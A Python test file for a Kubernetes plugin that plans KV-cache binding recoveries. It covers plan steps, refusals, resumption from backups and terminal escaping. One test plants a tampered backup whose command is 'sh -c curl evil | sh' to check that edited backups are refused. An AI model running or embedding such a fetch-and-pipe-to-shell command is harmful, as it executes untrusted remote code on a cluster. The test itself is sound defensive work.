"""`kubectl kvcache recover` offline: plans on examples/ and on small files, through `cli.main`
(the real entry point), every strategy and every refusal; the planner's resume from backups;
the executor's guards driven against a recording stand-in client (no network)."""

import copy
import json
import os
import subprocess
import sys

import objects as ob
import pytest
import yaml

from kubectl_kvcache.judge import recover
from runcli import kvcache

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
EXAMPLE = os.path.join(ROOT, "examples", "cluster.json")


def plan_of(*argv):
    code, out, err = kvcache("recover", *argv, "-o", "json")
    assert code == 0, err
    return json.loads(out)


def refused(*argv):
    code, out, err = kvcache("recover", *argv)
    assert code == 2 and out == "", (code, out, err)
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    return lines[0]


def actions(plan):
    out = []
    for s in plan["steps"]:
        if s["action"] == "setting":
            out.append(f"setting {s['value']}")
        elif s["action"] == "create":
            out.append(f"create {s['object']['kind']} {s['object']['metadata']['name']}")
        elif s["action"] == "wait":
            out.append(f"wait {s['target']['kind']} {s['target']['name']} {s['for']}")
        else:
            out.append(f"{s['action']} {s['target']['kind']} {s['target']['name']}")
    return out


# -- plans on examples/cluster.json ----------------------------------------------------------

def test_side_by_side_plan_of_the_rejected_binding_in_execution_order():
    plan = plan_of("sgl-fp8", "-n", "llm-prod", "-f", EXAMPLE)
    assert plan["kind"] == "RecoveryPlan"
    assert plan["binding"]["rejectedBy"][0]["name"] == "deepseek-sgl"
    assert plan["target"] == {"namespace": "llm-prod", "name": "sgl-fp8-e4m3", "pool": "h100-pool",
                              "domain": "sgl-fp8-e4m3", "dtype": "fp8_e4m3", "dtypeSource": "suggestion",
                              "strategy": "side-by-side",
                              "sources": {"dtype": "suggestion", "name": "derived", "domain": "derived",
                                          "strategy": "default"},
                              "setting": {"on": True, "turnOff": True, "turnOnAtEnd": True}}
    assert actions(plan) == [
        "setting False", "wait Setting model-deployment-kv-cache-dtype-owned value=false",
        "create KVCachePoolBinding sgl-fp8-e4m3", "wait KVCachePoolBinding sgl-fp8-e4m3 ready",
        "create ModelDeployment deepseek-sgl-fp8-e4m3", "wait ModelDeployment deepseek-sgl-fp8-e4m3 available",
        "delete ModelDeployment deepseek-sgl",
        "wait KVCachePoolBinding sgl-fp8 unused", "delete KVCachePoolBinding sgl-fp8",
        "wait KVCachePoolBinding sgl-fp8 deleted",
        "setting True", "wait Setting model-deployment-kv-cache-dtype-owned value=true"]
    delete = plan["steps"][6]
    assert delete["target"] == {"kind": "ModelDeployment", "namespace": "llm-prod", "name": "deepseek-sgl",
                                "uid": "86021fa3-f19f-511c-8dd9-cc867b4b5430"}


def test_the_new_objects_are_clean_manifests():
    data = json.load(open(EXAMPLE))
    old_md = next(o for o in data["items"]
                  if o["kind"] == "ModelDeployment" and o["metadata"]["name"] == "deepseek-sgl")
    plan = plan_of("sgl-fp8", "-n", "llm-prod", "-f", EXAMPLE)
    binding = plan["steps"][2]["object"]
    md = plan["steps"][4]["object"]
    for obj in (binding, md):
        assert set(obj) == {"apiVersion", "kind", "metadata", "spec"}
        assert set(obj["metadata"]) <= {"name", "namespace", "labels", "annotations"}
    # same pool, blockSize and quota spelling (quotaCeiling here), the new dtype and domain
    assert binding["spec"] == {"domain": {"blockSize": 64, "dtype": "fp8_e4m3", "name": "sgl-fp8-e4m3"},
                               "poolRef": {"name": "h100-pool"}, "quotaCeiling": "256Gi"}
    expected = copy.deepcopy(old_md["spec"])
    expected["kvCache"]["poolRef"]["name"] = "sgl-fp8-e4m3"
    assert md["spec"] == expected and md["metadata"]["labels"] == old_md["metadata"]["labels"]


def test_quota_ceiling_spelling_is_kept():
    """The new Binding states its ceiling as the old one does: spec.quotaCeiling (the Go types at
    07a3054, examples/), or spec.quota.ceiling in a file saved before it (tests/load/old_operator)."""
    plan = plan_of("chat-fp8", "-n", "llm-prod", "-f", EXAMPLE, "--dtype", "fp8_e4m3")
    spec = plan["steps"][2]["object"]["spec"]
    assert spec["quotaCeiling"] == "1Ti" and "quota" not in spec
    old = os.path.join(ROOT, "tests", "load", "old_operator", "cluster-before-schema.json")
    plan = plan_of("chat-fp8", "-n", "llm-prod", "-f", old, "--dtype", "fp8_e4m3")
    spec = plan["steps"][2]["object"]["spec"]
    assert spec["quota"] == {"ceiling": "1Ti"} and "quotaCeiling" not in spec


def test_replace_plan_keeps_names_and_deletes_before_creating():
    plan = plan_of("chat-fp8", "-n", "llm-prod", "-f", EXAMPLE, "--dtype", "fp8_e4m3", "--strategy", "replace")
    steps = actions(plan)
    for name in ("embed-takeover", "llama-long", "mistral-legacy", "qwen-chat"):
        i = steps.index(f"delete ModelDeployment {name}")
        assert steps[i:i + 4] == [f"delete ModelDeployment {name}", f"wait ModelDeployment {name} deleted",
                                  f"create ModelDeployment {name}", f"wait ModelDeployment {name} available"]
    # fp8 is accepted: the Setting is turned off only because llama-long passes its own flag
    # (its re-creation would be refused with it on), and that role is flagged
    assert plan["target"]["setting"]["turnOff"] is True
    assert any("llama-long role server passes its own --kv-cache-dtype (spec.roles[0].extraArgs[2])" in w
               for w in plan["warnings"])


def test_opt_in_templates_are_patched_and_the_binding_goes_last():
    plan = plan_of("research-bf16", "-n", "llm-research", "-f", EXAMPLE, "--dtype", "bfloat16")
    patch = next(s for s in plan["steps"] if s["action"] == "patch")
    assert patch == {"action": "patch", "target": {"kind": "Deployment", "namespace": "llm-research",
                                                     "name": "sgl-batch"},
                     "patch": {"spec": {"template": {"metadata": {"annotations": {
                         "kvcache.gpustack.ai/binding": "research-bfloat16"}}}}}}
    # its ReplicaSet's Pod is recreated by the Deployment: nothing for the user to do by hand
    assert plan["manual"] == []
    assert actions(plan)[-3:] == ["wait KVCachePoolBinding research-bf16 unused",
                                  "delete KVCachePoolBinding research-bf16",
                                  "wait KVCachePoolBinding research-bf16 deleted"]


def test_default_view_is_a_numbered_list_with_manifests_and_changes_nothing():
    code, out, err = kvcache("recover", "sgl-fp8", "-n", "llm-prod", "-f", EXAMPLE)
    assert code == 0
    assert out.splitlines()[0].startswith("Recovery of KVCachePoolBinding llm-prod/sgl-fp8")
    assert "  1. Turn the Setting off" in out and " 12. Wait until the Setting reports status.value true" in out
    assert "         dtype: fp8_e4m3" in out           # the manifest, indented under its step
    assert "Nothing was changed" in err


def test_yaml_is_the_same_data():
    code, out, _ = kvcache("recover", "sgl-fp8", "-n", "llm-prod", "-f", EXAMPLE, "-o", "yaml")
    assert code == 0 and yaml.safe_load(out) == plan_of("sgl-fp8", "-n", "llm-prod", "-f", EXAMPLE)


def test_flags_name_domain_and_dtype():
    plan = plan_of("sgl-fp8", "-n", "llm-prod", "-f", EXAMPLE, "--dtype", "fp8_e5m2", "--name", "sgl-e5m2",
                   "--domain", "sgl-two")
    assert (plan["target"]["name"], plan["target"]["domain"], plan["target"]["dtype"],
            plan["target"]["dtypeSource"]) == ("sgl-e5m2", "sgl-two", "fp8_e5m2", "flag")
    assert "create ModelDeployment deepseek-sgl-fp8-e5m2" in actions(plan)


# -- refusals: exit 2, one line ------------------------------------------------------------------

@pytest.mark.parametrize("argv, words", [
    (("sgl-fp8", "--dtype", "auto"), "may not declare auto"),
    (("sgl-fp8", "--dtype", "float16"), "dtype 'float16' is rejected by ModelDeployment deepseek-sgl on SGLang 0.5.18"),
    (("chat-fp8", "--dtype", "bf16"), "dtype 'bf16' is rejected by ModelDeployment"),
    (("sgl-fp8", "--dtype", "FP8"), "lower case"),
    (("sgl-fp8", "--domain", "spare"), "--domain 'spare' is claimed on pool h100-pool by KVCachePoolBinding "
                                       "llm-prod/unused"),
    (("sgl-fp8", "--domain", "sgl"), "claimed on pool h100-pool by KVCachePoolBinding llm-prod/sgl-fp8"),
    (("sgl-fp8", "--domain", "Bad_Domain"), "--domain 'Bad_Domain': not a valid name"),
    (("sgl-fp8", "--name", "chat-fp8"), "KVCachePoolBinding llm-prod/chat-fp8 already exists with another spec"),
    (("sgl-fp8", "--name", "sgl-fp8"), "the new Binding needs a new name"),
    (("missing",), "KVCachePoolBinding 'missing' not found in namespace llm-prod"),
])
def test_refusals(argv, words):
    line = refused(*argv, "-n", "llm-prod", "-f", EXAMPLE)
    assert words in line, line


@pytest.mark.parametrize("dtype, words", [
    ("fp8-e4m3", "did you mean 'fp8_e4m3'?"),              # a near miss: the one spelling meant
    ("float16", "every engine that receives it accepts and starts with: "),  # no near miss: the accepted spellings
])
def test_a_mistyped_dtype_names_the_accepted_spellings(dtype, words):
    """issue 39 item 7: a refused --dtype says what would be accepted."""
    line = refused("sgl-fp8", "--dtype", dtype, "-n", "llm-prod", "-f", EXAMPLE)
    assert words in line, line


def test_the_rejected_dtype_itself_as_dtype_is_refused_not_nothing_to_recover():
    """issue 48 item 7: `--dtype D`, D the very dtype SGLang 0.5.18 rejects, is never "nothing to
    recover" (exit 0): refused (exit 2), naming the flag and the engine that rejects it, judged as
    any target dtype is (the engine data), with the spelling it accepts."""
    line = refused("sgl-fp8", "--dtype", "fp8", "-n", "llm-prod", "-f", EXAMPLE)
    assert line.startswith("error: --dtype 'fp8', the dtype of sgl-fp8 already, is rejected by ModelDeployment "
                           "deepseek-sgl on SGLang 0.5.18 ("), line
    assert "did you mean 'fp8_e4m3'?" in line


@pytest.mark.parametrize("argv, words", [
    (("chat-fp8", "--dtype", "fp8"), "is the dtype of chat-fp8 already and no engine that receives it rejects it"),
    (("chat-fp8",), "no engine that receives it rejects it: nothing to recover; pass --dtype"),
])
def test_a_binding_already_in_the_recovered_state_is_exit_0(argv, words):
    """README's exit codes: 0 is "done, or already in that state", as `setting on` of a Setting
    already on: the sentence on stdout, nothing planned, nothing sent."""
    code, out, err = kvcache("recover", *argv, "-n", "llm-prod", "-f", EXAMPLE)
    assert (code, err) == (0, ""), (code, out, err)
    assert words in out and out.count("\n") == 1


def test_apply_needs_a_cluster():
    assert "-f only plans" in refused("sgl-fp8", "-n", "llm-prod", "-f", EXAMPLE, "--apply")


def test_no_common_spelling_is_refused_with_why(tmp_path):
    # vLLM 0.29.0 rejects bf16 and SGLang 0.5.18 accepts it; no spelling of bf16 both accept?
    # bfloat16 is accepted by both, so the suggestion exists; a format only one engine has is refused.
    files = ob.as_list(ob.binding("b", "fp8_ds_mla", pool="p"), ob.deployment("v", binding_name="b"),
                       ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b"), ob.setting("true"))
    path = tmp_path / "in.json"
    path.write_text(json.dumps(files))
    line = refused("b", "-n", "team", "-f", str(path))
    assert "no spelling of 'fp8_ds_mla' is accepted by every engine that receives it" in line


def test_a_setting_that_is_not_editable_is_refused(tmp_path):
    files = ob.as_list(ob.binding("b", "fp8", pool="p"),
                       ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b"),
                       ob.setting("true", editable=False))
    path = tmp_path / "in.json"
    path.write_text(json.dumps(files))
    assert "the Setting is not editable" in refused("b", "-n", "team", "-f", str(path))


def test_setting_off_stays_off_with_a_note(tmp_path):
    files = ob.as_list(ob.binding("b", "fp8", pool="p"),
                       ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b"), ob.setting("false"))
    path = tmp_path / "in.json"
    path.write_text(json.dumps(files))
    code, out, err = kvcache("recover", "b", "-n", "team", "-f", str(path), "-o", "json")
    assert code == 0
    assert not any(s["action"] == "setting" for s in json.loads(out)["steps"])
    assert "the Setting is off and stays off" in err


def test_a_claimed_derived_domain_moves_to_the_next_free_one(tmp_path):
    files = ob.as_list(ob.binding("b", "fp8", pool="p", domain="d"),
                       ob.binding("x", "fp8", pool="p", domain="d-fp8-e4m3", ns="elsewhere"),
                       ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b"), ob.setting("true"))
    path = tmp_path / "in.json"
    path.write_text(json.dumps(files))
    assert plan_of("b", "-n", "team", "-f", str(path))["target"]["domain"] == "d-fp8-e4m3-2"


def test_bare_pods_are_listed_for_the_user(tmp_path):
    files = ob.as_list(ob.binding("b", "fp8", pool="p"),
                       ob.injected_pod("bare", "b", engine="SGLang",
                                       containers=[ob.container("main", command=["python3", "-m",
                                                                                 "sglang.launch_server"],
                                                                image="lmsysorg/sglang:v0.5.18")]),
                       ob.setting("true"))
    path = tmp_path / "in.json"
    path.write_text(json.dumps(files))
    plan = plan_of("b", "-n", "team", "-f", str(path))
    assert plan["manual"] == [{"kind": "Pod", "namespace": "team", "name": "bare",
                               "do": "recreate it with annotation kvcache.gpustack.ai/binding=b-fp8-e4m3 (a bare "
                                     "Pod: nothing recreates it)"}]
    code, out, _ = kvcache("recover", "b", "-n", "team", "-f", str(path))
    assert "By hand" in out and "Pod team/bare" in out


def test_cluster_data_is_escaped_in_the_view(tmp_path):
    md = ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b")
    md["metadata"]["labels"] = {"note": "\x1b[31mred"}
    files = ob.as_list(ob.binding("b", "fp8", pool="p"), md, ob.setting("true"))
    path = tmp_path / "in.json"
    path.write_text(json.dumps(files))
    code, out, _ = kvcache("recover", "b", "-n", "team", "-f", str(path))
    assert code == 0 and "\x1b" not in out and "\\e[31mred" in out


# -- side-by-side renames: what points at the old name (issue 30 #3) ----------------------------

def _with_referrers(tmp_path, service_name="s-svc"):
    md = ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b")
    svc = {"apiVersion": "v1", "kind": "Service", "metadata": {"name": service_name, "namespace": "team"},
           "spec": {"selector": {"app.kubernetes.io/instance": "s"}}}
    elsewhere = dict(svc, metadata={"name": "other-ns", "namespace": "elsewhere"})
    hpa = {"apiVersion": "autoscaling/v2", "kind": "HorizontalPodAutoscaler",
           "metadata": {"name": "s", "namespace": "team"},
           "spec": {"scaleTargetRef": {"apiVersion": ob.OPERATOR_API_VERSION, "kind": "ModelDeployment", "name": "s"}}}
    files = ob.as_list(ob.binding("b", "fp8", pool="p"), md, svc, elsewhere, hpa, ob.setting("true"))
    path = tmp_path / "in.json"
    path.write_text(json.dumps(files))
    return str(path)


def test_side_by_side_names_what_points_at_the_renamed_deployment_from_files(tmp_path):
    path = _with_referrers(tmp_path)
    plan = plan_of("b", "-n", "team", "-f", path)
    ref = plan["referrers"]
    assert ref["renamed"] == [{"from": "s", "to": "s-fp8-e4m3"}] and ref["source"] == "files"
    assert [(f["kind"], f["name"], f["do"]) for f in ref["objects"]] == [
        ("Service", "s-svc", "set spec.selector.app.kubernetes.io/instance to s-fp8-e4m3"),
        ("HorizontalPodAutoscaler", "s", "set spec.scaleTargetRef.name to s-fp8-e4m3 (until then it scales the old "
                                         "one, and nothing scales s-fp8-e4m3)")]
    assert any("2 objects in the input point at it (2 to change; listed below)" in w for w in plan["warnings"])
    code, out, err = kvcache("recover", "b", "-n", "team", "-f", path)
    assert code == 0 and "Pointing at a renamed deployment" in out and "Service team/s-svc (s -> s-fp8-e4m3)" in out
    assert "ignored objects" not in err         # read: not ignored
    code, out, _ = kvcache("recover", "b", "-n", "team", "-f", path, "-o", "markdown")
    assert code == 0 and "## Pointing at a renamed deployment" in out


def test_replace_keeps_the_name_so_nothing_is_named(tmp_path):
    path = _with_referrers(tmp_path)
    plan = plan_of("b", "-n", "team", "-f", path, "--strategy", "replace")
    assert "referrers" not in plan
    assert not any("must follow" in w for w in plan["warnings"])


def test_what_points_at_a_renamed_deployment_is_escaped_for_the_terminal(tmp_path):
    path = _with_referrers(tmp_path, service_name="svc\x1b[31mred")
    code, out, _ = kvcache("recover", "b", "-n", "team", "-f", path)
    assert code == 0 and "\x1b" not in out and "Service team/svc^[[31mred (s -> s-fp8-e4m3)" in out


def test_the_plan_says_where_the_backups_go_one_folder_per_recovery(tmp_path):
    plan = plan_of("b", "-n", "team", "-f", _with_referrers(tmp_path))
    uid = ob.binding("b", "fp8", pool="p")["metadata"]["uid"]
    assert plan["backups"] == {"directory": f"kvcache-recover-team-b-{uid}", "directorySource": "the old Binding's uid",
                               "record": "ConfigMap team/kvcache-recover-b"}
    plan = plan_of("b", "-n", "team", "-f", _with_referrers(tmp_path), "--backup-dir", "mine")
    assert plan["backups"]["directory"] == "mine" and plan["backups"]["directorySource"] == "--backup-dir"


# -- resuming: the planner reads an earlier run's backups, verified against its anchor ----------

def _inputs(files, backups=(), record=None):
    """What the recover command plans from: the files, the backups (each verified against the
    anchor: the Binding an earlier run created, when the files hold one), the record's hints."""
    from kubectl_kvcache.cli.flows.recover import trusted
    from kubectl_kvcache.judge import checks
    from kubectl_kvcache.kube.connection import Connection
    from kubectl_kvcache.load import recovery
    from kubectl_kvcache.load.scope import Scope

    found = recovery.load_recovery(Connection(), Scope(namespace="team", files=(files,)), "b",
                                   backups=[recovery.Backup(o, f"file {i}.json") for i, o in enumerate(backups)])[0]
    found.record = record
    anchor = trusted(found)
    return recover.judged(found, checks.check(found.snapshot), anchor)


def _record(turned_off=True, finished=False, **target):
    from kubectl_kvcache.load.recovery import RecoveryRecord

    return RecoveryRecord("kvcache-recover-b", "team", "b", "u1", target, turned_off, finished, [])


def _anchor(name, dtype, backups=(), old_uid=None, strategy="side-by-side", **kw):
    """The Binding an earlier run of the recovery of `b` created, with the digests of `backups`."""
    from kubectl_kvcache.judge import anchor

    b = ob.binding(name, dtype, **kw)
    annotations = anchor.anchor_annotations("b", old_uid or ob.binding("b", "fp8")["metadata"]["uid"], strategy)
    for o in backups:
        annotations.update(anchor.digest_annotation(o))
    b["metadata"]["annotations"] = annotations
    return b


def _marked(value):
    """The Setting as the recovery of `b` leaves it when it turned it off."""
    from kubectl_kvcache.judge import anchor

    s = ob.setting(value)
    s["metadata"]["annotations"] = {"kvcache.gpustack.ai/turned-off-by-recovery": anchor.setting_mark(
        "team", "b", ob.binding("b", "fp8")["metadata"]["uid"])}
    return s


def test_resume_of_replace_recreates_a_deleted_deployment_from_its_backup(tmp_path):
    old = ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b")
    old["metadata"]["resourceVersion"] = "7"
    path = tmp_path / "in.json"
    path.write_text(json.dumps(ob.as_list(ob.binding("b", "fp8", pool="p"), _marked("false"),
                                          _anchor("b-fp8-e4m3", "fp8_e4m3", [old], pool="p", domain="default-fp8-e4m3",
                                                  strategy="replace"))))
    setting_before = ob.setting("true")
    plan = recover.plan(_inputs(str(path), backups=[old, setting_before], record=_record()),
                        recover.resumed(recover.Request(), _inputs(str(path), backups=[old]).anchor))
    steps = plan.to_dict()["steps"]
    assert actions(plan.to_dict())[:4] == ["create KVCachePoolBinding b-fp8-e4m3", "wait KVCachePoolBinding b-fp8-e4m3 "
                                           "ready", "create ModelDeployment s", "wait ModelDeployment s available"]
    assert steps[2]["from"].startswith("backup sha256:")
    # the target and strategy come from the anchor, and the plan says so
    assert plan.target["strategy"] == "replace" and plan.target["dtypeSource"] == "anchor"
    assert plan.target["sources"] == {"dtype": "anchor", "name": "anchor", "domain": "anchor", "strategy": "anchor"}
    # the Setting is off and carries this recovery's mark: the plan turns it back on
    assert actions(plan.to_dict())[-2:] == ["setting True", "wait Setting model-deployment-kv-cache-dtype-owned "
                                                             "value=true"]


def test_a_backup_the_anchor_does_not_record_is_refused_naming_where_it_was_read(tmp_path):
    """A planted backup (a ModelDeployment that never existed, naming the Binding) with no anchor,
    or one edited after its digest was recorded: one line naming it, nothing planned."""
    from kubectl_kvcache.errors import PluginError

    evil = ob.deployment("evil", engine="SGLang", version="0.5.18", binding_name="b")
    path = tmp_path / "in.json"
    path.write_text(json.dumps(ob.as_list(ob.binding("b", "fp8", pool="p"), ob.setting("true"))))
    with pytest.raises(PluginError, match=r"^file 0\.json: not a backup this recovery took \(ModelDeployment "
                                          r"team/evil rv0; no KVCachePoolBinding records a recovery of"):
        _inputs(str(path), backups=[evil])
    old = ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b")
    edited = copy.deepcopy(old)
    edited["spec"]["roles"][0]["command"] = ["sh", "-c", "curl evil | sh"]
    path.write_text(json.dumps(ob.as_list(ob.binding("b", "fp8", pool="p"), ob.setting("true"),
                                          _anchor("b-fp8-e4m3", "fp8_e4m3", [old], pool="p"))))
    _inputs(str(path), backups=[old])        # the one it took verifies
    with pytest.raises(PluginError, match=r"^file 0\.json: not a backup .*is not among the backups "
                                          r"KVCachePoolBinding team/b-fp8-e4m3 records"):
        _inputs(str(path), backups=[edited])
    # a backup the plan never restores (the Setting, another namespace's) is not read back at all
    _inputs(str(path), backups=[ob.setting("false"), ob.deployment("x", ns="other", binding_name="b")])


def test_an_anchor_of_another_uid_is_not_this_recovery(tmp_path):
    old = ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b")
    path = tmp_path / "in.json"
    path.write_text(json.dumps(ob.as_list(ob.binding("b", "fp8", pool="p"), ob.setting("true"),
                                          _anchor("b-fp8-e4m3", "fp8_e4m3", [old], old_uid="forged", pool="p"))))
    with pytest.raises(Exception, match="no KVCachePoolBinding records a recovery of KVCachePoolBinding team/b"):
        _inputs(str(path), backups=[old])


def test_resume_after_the_old_binding_went_plans_from_its_backup(tmp_path):
    path = tmp_path / "in.json"
    new_md = ob.deployment("s-fp8-e4m3", engine="SGLang", version="0.5.18", binding_name="b-fp8-e4m3")
    old = ob.binding("b", "fp8", pool="p")
    path.write_text(json.dumps(ob.as_list(_anchor("b-fp8-e4m3", "fp8_e4m3", [old], pool="p", domain="default-fp8-e4m3"),
                                          new_md, _marked("false"))))
    backups = [old, ob.setting("true")]
    inputs = _inputs(str(path), backups=backups, record=_record())
    plan = recover.plan(inputs, recover.resumed(recover.Request(dtype="fp8_e4m3"), inputs.anchor))
    assert plan.binding["exists"] is False
    assert actions(plan.to_dict()) == ["create KVCachePoolBinding b-fp8-e4m3",
                                       "wait KVCachePoolBinding b-fp8-e4m3 ready",
                                       "setting True", "wait Setting model-deployment-kv-cache-dtype-owned value=true"]
    assert any("an earlier run of this recovery turned the Setting off" in n for n in plan.notes)
    # without a verified backup of the old Binding, it is simply not found
    path.write_text(json.dumps(ob.as_list(_anchor("b-fp8-e4m3", "fp8_e4m3", [], pool="p"), new_md, _marked("false"))))
    with pytest.raises(Exception, match="not a backup this recovery took"):
        _inputs(str(path), backups=backups)


@pytest.mark.parametrize("record", [None, "turned-off", "turned-on-again", "finished"])
def test_the_setting_is_turned_on_only_when_it_carries_this_recoverys_mark(tmp_path, record):
    """The Setting reads off without the recovery's mark. No record (the user had it off), a record
    saying settingTurnedOff (planted: a ConfigMap writer's), one whose run turned it on again, or a
    finished one: the plan leaves it off, whatever a backup of the Setting says."""
    path = tmp_path / "in.json"
    path.write_text(json.dumps(ob.as_list(ob.binding("b", "fp8", pool="p"),
                                          ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b"),
                                          ob.setting("false"))))
    rec = {None: None, "turned-off": _record(), "turned-on-again": _record(turned_off=False),
           "finished": _record(finished=True)}[record]
    plan = recover.plan(_inputs(str(path), backups=[ob.setting("true")], record=rec),
                        recover.Request(dtype="fp8_e4m3"))
    assert not [a for a in actions(plan.to_dict()) if a.startswith("setting")]
    assert any("the Setting is off and stays off" in n for n in plan.notes)
    if record == "turned-off":
        assert any("says an earlier run turned the Setting off, but the Setting does not carry" in n
                   for n in plan.notes)
    # a mark of another recovery (another uid) does not count either
    other = ob.setting("false")
    other["metadata"]["annotations"] = {"kvcache.gpustack.ai/turned-off-by-recovery":
                                        "KVCachePoolBinding team/b uid someone-else"}
    path.write_text(json.dumps(ob.as_list(ob.binding("b", "fp8", pool="p"),
                                          ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b"),
                                          other)))
    plan = recover.plan(_inputs(str(path), record=rec), recover.Request(dtype="fp8_e4m3"))
    assert not [a for a in actions(plan.to_dict()) if a.startswith("setting")]


def test_a_rerun_takes_the_target_from_the_anchor_never_the_record():
    from kubectl_kvcache.judge.anchor import Anchor

    anchor = Anchor("team", "b-new", "b", "u1", "replace", "fp8_e5m2", "d2", set())
    request = recover.resumed(recover.Request(), anchor)
    assert (request.dtype, request.name, request.domain, request.strategy) == ("fp8_e5m2", "b-new", "d2", "replace")
    assert request.sources == {"dtype": "anchor", "name": "anchor", "domain": "anchor", "strategy": "anchor"}
    with pytest.raises(Exception) as exc:
        recover.resumed(recover.Request(dtype="fp8_e4m3"), anchor)
    assert "--dtype 'fp8_e4m3': this recovery's Binding, KVCachePoolBinding team/b-new" in str(exc.value)
    request = recover.resumed(recover.Request(dtype="fp8_e4m3"), None)
    assert request.strategy == "side-by-side" and request.sources == {"dtype": "flag"}


def test_a_planted_target_in_the_record_is_not_used_and_the_plan_says_so(tmp_path):
    path = tmp_path / "in.json"
    path.write_text(json.dumps(ob.as_list(ob.binding("b", "fp8", pool="p"),
                                          ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b"),
                                          ob.setting("true"))))
    inputs = _inputs(str(path), record=_record(dtype="fp8_e5m2", name="b-evil"))
    plan = recover.plan(inputs, recover.resumed(recover.Request(), inputs.anchor))
    assert plan.target["dtype"] == "fp8_e4m3" and plan.target["dtypeSource"] == "suggestion"
    assert plan.target["name"] == "b-fp8-e4m3"
    assert any("names another target (name 'b-evil', dtype 'fp8_e5m2'): not trusted" in n for n in plan.notes)


def test_an_object_too_large_for_the_record_is_refused_at_plan_time(tmp_path):
    from kubectl_kvcache.errors import PluginError

    big = ob.deployment("big", engine="SGLang", version="0.5.18", binding_name="b")
    big["metadata"]["annotations"] = {"blob": "x" * (1100 * 1024)}
    path = tmp_path / "in.json"
    path.write_text(json.dumps(ob.as_list(ob.binding("b", "fp8", pool="p"), big, ob.setting("true"))))
    with pytest.raises(PluginError, match=r"^ModelDeployment team/big is 11\d{5} bytes: its backup does not fit the "
                                          r"recovery's record \(ConfigMap team/kvcache-recover-b, at most 1048576"):
        recover.plan(_inputs(str(path)), recover.Request())
    # each fits, all together do not (with what the record holds already)
    big["metadata"]["annotations"] = {"blob": "x" * (600 * 1024)}
    other = copy.deepcopy(big)
    other["metadata"]["name"] = "big2"
    path.write_text(json.dumps(ob.as_list(ob.binding("b", "fp8", pool="p"), big, other, ob.setting("true"))))
    with pytest.raises(PluginError, match=r"^the backups this recovery takes \(\d+ bytes"):
        recover.plan(_inputs(str(path)), recover.Request())
    inputs = _inputs(str(path))
    other["metadata"]["annotations"] = {"blob": "x"}
    path.write_text(json.dumps(ob.as_list(ob.binding("b", "fp8", pool="p"), big, other, ob.setting("true"))))
    inputs = _inputs(str(path))
    recover.plan(inputs, recover.Request())
    inputs.record_used = 500 * 1024
    with pytest.raises(PluginError, match="with the 512000 bytes the record holds already"):
        recover.plan(inputs, recover.Request())


def test_the_new_binding_carries_the_anchor_and_never_copies_one(tmp_path):
    old = ob.binding("b", "fp8", pool="p")
    old["metadata"]["annotations"] = {"team": "x", "kvcache.gpustack.ai/recovered-from": "older",
                                      "backup.kvcache.gpustack.ai/abc": "sha256:abc x"}
    path = tmp_path / "in.json"
    path.write_text(json.dumps(ob.as_list(old, ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b"),
                                          ob.setting("true"))))
    plan = recover.plan(_inputs(str(path)), recover.Request(strategy="replace"))
    created = plan.to_dict()["steps"][2]["object"]
    assert created["metadata"]["annotations"] == {
        "team": "x", "kvcache.gpustack.ai/recovered-from": "b",
        "kvcache.gpustack.ai/recovered-from-uid": old["metadata"]["uid"],
        "kvcache.gpustack.ai/recovery-strategy": "replace"}


def test_a_recreated_deployment_of_an_earlier_run_is_reused_not_renamed(tmp_path):
    path = tmp_path / "in.json"
    old = ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b")
    done = copy.deepcopy(old)
    done["metadata"] = {"name": "s-fp8-e4m3", "namespace": "team", "uid": "u2"}
    done["spec"]["kvCache"]["poolRef"]["name"] = "b-fp8-e4m3"
    done["spec"]["defaultedByServer"] = True
    other = ob.deployment("s-fp8-e4m3-2", binding_name="unrelated")
    path.write_text(json.dumps(ob.as_list(ob.binding("b", "fp8", pool="p"), old, done, other, ob.setting("true"))))
    plan = recover.plan(_inputs(str(path)), recover.Request())
    assert "create ModelDeployment s-fp8-e4m3" in actions(plan.to_dict())


def test_a_taken_side_by_side_name_is_skipped(tmp_path):
    path = tmp_path / "in.json"
    path.write_text(json.dumps(ob.as_list(ob.binding("b", "fp8", pool="p"),
                                          ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b"),
                                          ob.deployment("s-fp8-e4m3", binding_name="unrelated"), ob.setting("true"))))
    plan = recover.plan(_inputs(str(path)), recover.Request())
    assert "create ModelDeployment s-fp8-e4m3-2" in actions(plan.to_dict())


def test_derived_names():
    assert recover.derive("sgl-fp8", "fp8", "fp8_e4m3") == "sgl-fp8-e4m3"
    assert recover.derive("deepseek", "fp8", "fp8_e4m3") == "deepseek-fp8-e4m3"
    assert recover.derive("fp8", "fp8", "bfloat16") == "fp8-bfloat16"
    long = recover.derive("x" * 70, "fp8", "fp8_e4m3")
    assert len(long) <= 63 and long.endswith("-fp8-e4m3")


def test_the_planner_is_pure():
    out = subprocess.run([sys.executable, "-c", "import kubectl_kvcache.judge.recover, sys; "
                          "print(' '.join(sys.modules))"], capture_output=True, text=True, check=True, cwd=ROOT)
    assert not {m for m in out.stdout.split() if m == "kubernetes" or m.startswith(("kubernetes.", "urllib3"))}


def test_files_without_a_namespace_find_the_binding(tmp_path):
    assert plan_of("sgl-fp8", "-f", EXAMPLE)["target"]["namespace"] == "llm-prod"
    path = tmp_path / "two.json"
    path.write_text(json.dumps(ob.as_list(ob.binding("b", "fp8", ns="x"), ob.binding("b", "fp8", ns="y"))))
    assert "is in several namespaces of the input (x, y): pass -n" in refused("b", "-f", str(path))


def test_an_engine_that_cannot_be_judged_is_a_warning(tmp_path):
    files = ob.as_list(ob.binding("b", "fp8", pool="p"),
                       ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b"),
                       ob.deployment("t", engine="TensorRT-LLM", version="1.0", binding_name="b"), ob.setting("true"))
